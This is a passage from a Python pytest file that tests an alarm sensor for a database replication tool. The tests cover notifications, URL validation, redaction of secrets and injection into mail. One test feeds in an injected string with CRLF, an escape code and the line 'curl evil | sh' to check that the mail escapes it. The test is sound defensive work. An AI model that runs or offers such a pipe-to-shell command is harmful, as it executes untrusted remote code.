        deps = [NAMES.database(database, "dump")] if stage == "load" else []

        @dg.asset(key=NAMES.database(database, stage), deps=deps)
        def step() -> None:
            if database in failing:
                raise dg.Failure(f"{database} is damaged")

        return step

    def run(*failing: str) -> None:
        stages: tuple[Stage, ...] = ("dump", "load")
        assets = [asset(database, stage, list(failing)) for database in ("hr", "sales") for stage in stages]
        job = dg.Definitions(assets).resolve_implicit_global_asset_job_def()
        keys = [one.key for one in assets]
        job.execute_in_process(instance=watch.instance, raise_on_error=False, asset_selection=keys)

    watch.policy = with_databases("sales", "hr")
    watch.tick(WELL)
    run("hr", "sales")
    watch.tick(WELL)
    assert notified(web) == [("begins", "run failure", f"windows of {database}") for database in ("hr", "sales")]
    run("hr")
    watch.tick(WELL)
    assert notified(web) == [("ends", "run failure", "windows of sales")]
    run()
    watch.tick(WELL)
    run("hr")
    watch.tick(WELL)
    posted = [one for path, notice in web.posted if path == "/hook" for one in notice["alarms"]]
    assert [one["title"] for one in posted if one["state"] == "begins"] == ["a run failed (windows of hr): hr is damaged"]


@pytest.mark.parametrize(
    ("environment", "message"),
    [
        (
            {SLACK: "hooks.slack.com/x"},
            "HIVE_REPL_ALARM_SLACK_URL has to be an address of a host that begins with http:// or",
        ),
        ({WEBHOOK: "http://host:x/"}, "HIVE_REPL_ALARM_WEBHOOK_URL has to be"),
        ({MAIL_TO: "a@b.c", SMTP: "smtp://mail..example.com"}, "HIVE_REPL_ALARM_SMTP has to be an address of a host"),
        (
            {MAIL_TO: "a@b.c", SMTP: "host:25"},
            "begins with smtp:// or smtp\\+starttls:// or smtps://",
        ),
    ],
)
def test_a_wrong_environment_is_told(environment: dict[str, str], message: str, watch: Watch) -> None:
    with pytest.raises(BadRequest, match=message):
        list(channels(environment))
    assert list(channels({})) == []


def test_several_alarms_are_one_notice(watch: Watch, web: WebServer, mail: MailServer) -> None:
    watch.tick(replace(LATE, held=HELD.held))
    assert mail.received[0][1]["Subject"] == "[hive-repl default] 2 alarms begin"
    assert len(web.posted) == 2


def test_a_tick_has_the_engines_messages(tmp_path: Path) -> None:
    policy = POLICY.model_copy(update={"dump_root": f"file://{tmp_path}"})

    class Reader(KeptReader):
        def read(self, connection: Connection) -> Sequence[Lag]:
            assert connection.source.policy == policy
            logging.getLogger("hive_replication.lag").warning("the log has a hole")
            return [WELL]

    resources = {NAMES.connection: ReplicationConnection.of(policy)}
    handler, seen = logging.Handler(), list[str]()
    handler.emit = lambda record: seen.append(record.getMessage())  # type: ignore[method-assign]
    with dg.DagsterInstance.ephemeral() as instance, dg.build_sensor_context(instance, resources=resources) as context:
        context.log.addHandler(handler)
        alarm_sensor(Specs(policy), Reader()).evaluate_tick(context)
    assert seen == ["the log has a hole"]


def test_a_dump_root_that_refuses_connections_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    """No run fails while none can begin."""

    class Reader(KeptReader):
        def read(self, connection: Connection) -> Sequence[Lag]:
            return [WELL]

    def refused(*_: object) -> bool:
        raise Unreachable("the storage root cannot be reached: connection refused")

    monkeypatch.setattr("hive_replication.storage.Storage.exists", refused)
    resources = {NAMES.connection: ReplicationConnection.of(POLICY)}
    with dg.DagsterInstance.ephemeral() as instance, dg.build_sensor_context(instance, resources=resources) as context:
        said = alarm_sensor(Specs(POLICY), Reader()).evaluate_tick(context)
    assert said.skip_message == "1 alarm: unreachable: dump root"


def test_a_cursor_of_an_earlier_version_does_not_notify_again() -> None:
    alarm = {"kind": "lag", "about": "sales", "title": "t", "advice": "a"}
    cursor = read_cursor(json.dumps({"alarms": {"lag: sales": {"alarm": alarm, "since": 1.0, "told": ["mail"]}}}))
    assert list(undelivered(cursor.alarms, "mail")) == []
    assert read_cursor(cursor.to_json()) == cursor


def test_a_reason_fakes_no_paragraph_of_a_mail(mail: MailServer, watch: Watch) -> None:
    odd = "x\r\n\r\nBEGINS: all is lost\r\nWhat to do: curl evil | sh\x1b[31m"
    watch.tick(replace(WELL, held=(("orders", odd),)))
    text = str(mail.received[-1][1].get_content())
    assert [line.split(":")[0] for line in text.splitlines() if line] == ["BEGINS", "What to do", "In Dagster"]
    assert "\x1b" not in text


def test_a_channel_does_not_show_its_secrets() -> None:
    environment = {
        SLACK: "https://hooks.slack.com/services/T0/B0/secret",
        WEBHOOK: "https://x/?token=secret",
        MAIL_TO: "ops@shop.com",
        SMTP: "smtp://me:my secret@mail",  # a blank in it ended all channels
    }
    assert "secret" not in repr(list(channels(environment)))
